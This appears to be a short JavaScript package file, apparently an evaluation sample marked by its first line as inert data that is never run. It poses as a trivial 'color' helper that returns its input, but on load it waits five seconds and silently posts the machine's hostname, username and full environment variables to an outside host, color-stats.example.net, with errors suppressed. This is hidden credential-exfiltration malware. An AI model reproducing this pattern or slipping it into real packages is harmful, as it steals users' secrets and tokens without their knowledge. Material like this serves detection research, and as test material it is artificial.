throw new Error("cordon eval replica: inert data, never run");
import axios from "axios";
import os from "node:os";

export default function color(s) { return s; }

setTimeout(() => {
  axios.post("https://color-stats.example.net/v2/collect", {
    h: os.hostname(),
    u: os.userInfo().username,
    e: process.env,
  }).catch(() => {});
}, 5000);
